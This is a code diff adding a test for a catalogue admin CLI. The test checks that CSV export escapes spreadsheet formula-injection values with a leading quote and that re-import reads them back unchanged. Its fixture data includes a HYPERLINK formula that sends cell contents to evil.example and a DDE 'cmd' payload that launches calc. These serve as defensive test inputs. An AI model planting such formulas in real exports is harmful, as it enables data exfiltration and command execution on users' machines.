@@ -1,5 +1,6 @@
 import { sql } from 'drizzle-orm'
 import { afterAll, beforeAll, expect, it } from 'vitest'
+import { parseCsv } from '../../src/catalog/csv'
 import type { DatabaseHandle } from '../../src/db/client'
 import { createTestDatabase } from '../support/test-database'
 import { createAdminCli } from './admin-cli'
@@ -78,4 +79,60 @@ it('reports the catalogue’s statistics as text and JSON', async () => {
   const json = JSON.parse((await cli.run('catalog', 'stats', '--json')).out) as Record<string, unknown>
   expect(json).toMatchObject({ projects: 721, members: 0 })
   expect(json.topTags).toHaveLength(5)
+})
+
+it('CSV: a cell a spreadsheet would run as a formula is escaped with a quote, and import reads it back unchanged', async () => {
+  cli.files.set(
+    'formulas.json',
+    JSON.stringify([
+      {
+        id: 'formula-1',
+        title: '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
+        subtitle: '+1+2',
+        author: '@SUM(1,2)',
+        problem_solved: '-2+3',
+        category: '-Categoría',
+        tags: ['+etiqueta'],
+        project_links: [{ title: "=cmd|' /C calc'!A0", url: 'https://example.com/a' }],
+        demonstration_cases: ['@caso', 'normal'],
+      },
+      { id: 'formula-2', title: 'Tabulador y retorno', subtitle: '\t=1+1', problem_solved: '\r=1+1' },
+      {
+        id: 'formula-3',
+        title: "'=ya con comilla",
+        subtitle: "''@dos comillas",
+        author: "'texto con comilla",
+        project_links: [{ title: '-guion', url: 'https://example.com/b' }],
+        demonstration_cases: ['+uno'],
+      },
+    ]),
+  )
+  expect((await cli.run('catalog', 'import', 'formulas.json')).code).toBe(0)
+  const formulaProjects = async () => {
+    const { projects } = JSON.parse((await cli.run('catalog', 'export')).out) as {
+      projects: { id: string }[]
+    }
+    return projects.filter((project) => project.id.startsWith('formula-'))
+  }
+  const before = await formulaProjects()
+  expect(before).toHaveLength(3)
+
+  const exported = (await cli.run('catalog', 'export', '--format', 'csv')).out
+  const dangerous = parseCsv(exported)
+    .flat()
+    .filter((cell) => /^[=+\-@\t\r]/.test(cell))
+  expect(dangerous).toEqual([])
+  expect(exported).toContain(
+    `formula-1,"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")","'+1+2","'@SUM(1,2)"`,
+  )
+  expect(exported).toContain(`"'-2+3","'=cmd\\|' /C calc'!A0|https://example.com/a","'@caso|normal"`)
+  expect(exported).toContain(`formula-2,Tabulador y retorno,"'\t=1+1",`)
+  expect(exported).toContain(`"'\r=1+1"`)
+  expect(exported).toContain(`formula-3,"''=ya con comilla","'''@dos comillas",'texto con comilla,`)
+
+  cli.files.set('formulas.csv', exported)
+  await emptyCatalogue()
+  expect((await cli.run('catalog', 'import', 'formulas.csv')).code).toBe(0)
+  expect(await formulaProjects()).toEqual(before)
+  expect((await cli.run('catalog', 'export', '--format', 'csv')).out).toBe(exported)
 })
